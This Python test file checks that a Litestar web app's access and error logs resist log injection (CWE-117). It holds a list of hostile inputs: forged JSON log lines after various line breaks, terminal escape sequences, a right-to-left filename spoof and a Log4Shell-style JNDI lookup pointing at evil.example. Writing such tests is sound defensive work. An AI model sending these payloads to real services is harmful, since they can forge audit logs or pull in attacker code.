"""Log injection (CWE-117): whatever a client sends, a request is one line, and the line says what it is."""

from collections.abc import AsyncGenerator, Generator
from urllib.parse import quote

import pytest
from litestar import Litestar
from msgspec.structs import replace

from entrypoints.observability import log_lines
from entrypoints.services import Services
from entrypoints.settings import Settings
from tests.harness import client_of, new_app_on
from tests.log_capture import PRODUCTION, Log, configured
from tests.raw_http import raw_answer

FORGED = '{"level":"error","logger":"access","message":"forged"}'
HOSTILE = [
    f"x\n{FORGED}",
    f"x\r\n{FORGED}",
    f"x\r{FORGED}",
    f'x"}}\n{FORGED}',
    f"x\x0b{FORGED}",
    f"x\x0c{FORGED}",
    f"x\x1c{FORGED}",
    f"x\x85{FORGED}",
    f"x\u2028{FORGED}",
    f"x\u2029{FORGED}",
    "x\x1b[2K\x1b[1A",
    "x\x1b]0;title\x07",
    "x\x08\x08\x08",
    "x\u202egnp.exe",
    "x\x00y",
    "x\ud800y",
    "%0a%0dx",
    "\\n\\r",
    "{0} %s %(name)s ${jndi:ldap://evil.example/x}",
    "x" * 20_000,
]
DEVELOPMENT = Settings(log_level="debug")


@pytest.fixture(params=[PRODUCTION, DEVELOPMENT], ids=["production", "development"])
def settings(request: pytest.FixtureRequest) -> Settings:
    """How the log is written."""
    return replace(request.param, access_log=True)


@pytest.fixture
def log(settings: Settings) -> Generator[Log]:
    """The log, as an operator reads it."""
    with configured(settings) as log:
        yield log


@pytest.fixture
async def app(
    settings: Settings, services: Services, log: Log, monkeypatch: pytest.MonkeyPatch
) -> AsyncGenerator[Litestar]:
    """The application, which writes that log, each line at once."""
    monkeypatch.setattr(log_lines, "MAX_LINES", 1)
    del log  # is what it writes
    app = new_app_on(services, settings)
    async with app.lifespan():
        yield app


def lines_of(log: Log) -> list[str]:
    """Return what any reader, of whatever taste in line ends, takes for a line."""
    return log.text().splitlines()


def as_header(text: str) -> str:
    """Return text in the bytes that a server would pass on."""
    return text.encode("utf-8", "surrogatepass").decode("latin-1")


async def test_a_request_is_one_line_whatever_its_path_and_headers_say(app: Litestar, log: Log) -> None:
    for text in HOSTILE:
        in_path = quote(text[:500], errors="surrogatepass").encode()
        for path in (b"/", b"/todos/", b"/posts/", b"/schema/assets/"):
            for name in ("User-Agent", "X-Request-ID", "traceparent", "X-Forwarded-For", "Authorization"):
                before = len(lines_of(log))

                await raw_answer(app, "GET", path + in_path, headers=[("Host", "testserver"), (name, as_header(text))])

                (line,) = lines_of(log)[before:]
                assert line.isprintable(), line
                assert not line.startswith('{"level"')
                assert len(line) < 2_000


async def test_a_method_or_a_host_makes_no_line(app: Litestar, log: Log) -> None:
    for text in HOSTILE:
        before = len(lines_of(log))

        await raw_answer(app, as_header(text)[:100], b"/todos", headers=[("Host", as_header(text))])

        (line,) = lines_of(log)[before:]
        assert line.isprintable(), line


async def test_what_a_body_says_is_not_logged(app: Litestar, log: Log) -> None:
    headers = [("Host", "testserver"), ("Content-Type", "application/json")]

    for text in HOSTILE:
        told = text.encode("utf-8", "backslashreplace").decode()  # JSON cannot carry a lone surrogate
        credentials = {"email": f"grace+marked{told}@example.com", "password": f"marked {told}"}
        for path, body in ((b"/auth/register", credentials), (b"/auth/refresh", {"refresh_token": f"marked{told}"})):
            before = len(lines_of(log))

            answer = await raw_answer(app, "POST", path, headers=headers, body=body)

            (line,) = lines_of(log)[before:]
            assert answer.status in {201, 401, 422}
            assert "marked" not in line
            assert "forged" not in line


async def test_an_error_that_repeats_what_was_sent_is_one_line_in_production(
    services: Services, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def fail(**_: object) -> None:
        raise ValueError(f"x\n{FORGED}\x1b[2K\u2028{FORGED}")

    monkeypatch.setattr(services.posts, "page", fail)
    with configured(PRODUCTION) as log:
        async with client_of(new_app_on(services, replace(PRODUCTION, access_log=False))) as client:
            response = await client.get("/posts")
        (line,) = log.text().split("\n")[:-1]

    assert response.status_code == 500
    assert "forged" not in response.text
    assert line.isprintable()
    assert '"level":"error"' in line
